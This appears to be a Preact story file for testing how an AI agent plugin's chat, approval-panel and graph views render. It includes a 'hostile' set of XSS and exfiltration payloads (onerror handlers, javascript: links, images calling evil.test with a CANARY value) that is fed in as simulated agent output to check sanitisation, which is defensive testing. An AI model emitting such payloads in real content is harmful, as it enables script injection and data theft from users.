import type { ComponentChildren } from 'preact'
import type { AgentEvent } from '../../../src/core/agent/index.js'
import type { UserRequest } from '../../../src/core/approval/index.js'
import { GraphView } from '../../../src/ui/graph/graph-view.js'
import {
  ActivityView,
  type ChatActions,
  ChatLog,
  emptyTranscript,
  foldEvents,
  NoteRail,
  StatusLine,
  type TranscriptState,
} from '../../../src/ui/index.js'
import { controlStories } from './control-stories.js'
import { noteStories } from './note-stories.js'
import { sampleActivity } from './sample-activity.js'
import { endingTurns, eventTurns, failureTurns, told } from './sample-events.js'
import { grownGraph, hostileGraph, relatedNotes, smallGraph } from './sample-graphs.js'
import { batchPanel, callPanels, executablePanel, hostilePanel, largePanel, questionPanel } from './sample-panels.js'
import { settingStories } from './setting-stories.js'

export interface Story {
  name: string
  draw(): ComponentChildren
}

declare global {
  /** Answers that panels have given, for tests to look at. */
  var answers: unknown[]
}
globalThis.answers = []

const actions: ChatActions = {
  async answer(panel, answer) {
    globalThis.answers.push({ id: panel.id, answer })
    return undefined
  },
  review() {},
  undo() {},
  askAgain() {},
  showBranch() {},
  branch() {},
}

const transcriptOf = (events: readonly AgentEvent[]): TranscriptState => foldEvents(emptyTranscript, told(events))

function chat(name: string, events: readonly AgentEvent[]): Story {
  const transcript = transcriptOf(events)
  return {
    name,
    draw: () => (
      <>
        <ChatLog transcript={transcript} actions={actions} />
        <StatusLine transcript={transcript} />
      </>
    ),
  }
}

const start = eventTurns['run-start'][0]
const asking = (name: string, panel: UserRequest) => chat(name, [start, { type: 'approval-asked', panel }])

const nasty = [
  '<img src=x onerror=window.__x=1>',
  '<svg onload=window.__x=1><image href=https://evil.test/a></svg>',
  '[click](javascript:window.__x=1) [b](data:text/html,<script>window.__x=1</script>)',
  '</script><script>window.__x=1</script>',
  '<a href="obsidian://open?vault=x">go</a> [vault](obsidian://open?vault=x)',
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
  '```mermaid\ngraph TD; A-->B; click A "javascript:window.__x=1"\n```',
  '$\\href{javascript:window.__x=1}{x}$',
  '![x](https://evil.test/p?d=CANARY)',
  '![][r]\n\n[r]: https://evil.test/p?d=CANARY',
  '<img src=//evil.test/p?d=CANARY>',
  '![[https://evil.test/x]]',
  '<div style="background:url(https://evil.test/css)">x</div>',
  '<link rel=preload href=https://evil.test/l as=image>',
  '<video poster=https://evil.test/v></video>',
  '[//evil.test](//evil.test/a) [safe.example](https://evil.test@evil.test/)',
  '[safe.example](https://evil.test/) [http://safe.example](https://evil.test/)',
]

/** Model text, tool names, arguments, results and failures that somebody wrote who wants more than to be read. */
const hostileTurn: AgentEvent[] = [
  { ...start, text: nasty[0], model: nasty[0] } as AgentEvent,
  { type: 'reasoning-delta', text: nasty.join('\n') },
  {
    type: 'tool-call',
    call: { id: 'h', name: nasty[0], input: { query: nasty[1] } },
    title: nasty[0],
    activity: nasty[0],
    background: false,
  },
  {
    type: 'tool-result',
    call: { id: 'h', name: nasty[0], input: { query: nasty[1] } },
    result: { callId: 'h', name: nasty[0], ok: false, code: 'not-found', text: nasty.join(' ') },
  },
  { type: 'notice', text: nasty[0] },
  { type: 'text-delta', text: nasty.join('\n\n') },
  {
    type: 'citations',
    citations: [
      { path: nasty[0] as never, raw: nasty[0], quote: nasty[0], check: 'differs' },
      { raw: nasty[3], check: 'missing' },
    ],
  },
  {
    type: 'run-end',
    reason: 'failed',
    text: '',
    messages: [],
    steps: 1,
    usage: {},
    failure: { code: 'internal', text: nasty.join(' '), hint: nasty[0] },
  },
]

/** More turns than are drawn at first, all there from the beginning, as of a conversation that is opened. */
const openedConversation = ['one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight'].flatMap((which) => [
  { ...start, turn: which, text: `Question ${which}?` } as AgentEvent,
  ...endingTurns.answered.slice(1),
])

/** `?nodes=2000` draws a larger graph. */
const wantedNotes = Number(new URLSearchParams(location.search).get('nodes') ?? 400)

const related = (name: string, notes: typeof relatedNotes): Story => ({
  name,
  draw: () => (
    <NoteRail headings={[]} backlinks={[]} backlinkCount={0} links={[]} related={notes} onHeading={() => {}} />
  ),
})

export const stories: Story[] = [
  ...Object.entries(eventTurns).map(([type, events]) => chat(`event: ${type}`, events)),
  ...Object.entries(endingTurns).map(([reason, events]) => chat(`ending: ${reason}`, events)),
  ...Object.entries(failureTurns).map(([code, events]) => chat(`failure: ${code}`, events)),
  ...Object.entries(callPanels).map(([name, panel]) => asking(`panel: call, ${name}`, panel)),
  asking('panel: executable', executablePanel),
  asking('panel: batch', batchPanel),
  asking('panel: question', questionPanel),
  asking('panel: large', largePanel(2000)),
  chat('conversation: opened', openedConversation),
  {
    name: 'activity',
    draw: () => (
      <ActivityView
        activity={sampleActivity}
        planDecision={async () => ({ changes: [], apply: async () => undefined })}
        onLookAgain={() => {}}
        onUndo={() => {}}
        onReview={() => {}}
      />
    ),
  },
  related('related: notes', relatedNotes),
  related('related: none', []),
  { name: 'graph: a note', draw: () => <GraphView graph={smallGraph} /> },
  { name: 'graph: large', draw: () => <GraphView graph={grownGraph(wantedNotes)} /> },
  { name: 'graph: none', draw: () => <GraphView graph={{ nodes: [], links: [], isCut: false, total: 0 }} /> },
  { name: 'hostile: graph', draw: () => <GraphView graph={hostileGraph} /> },
  asking('hostile: panel', hostilePanel),
  chat('hostile: turn', hostileTurn),
  ...noteStories,
  ...settingStories,
  ...controlStories,
]
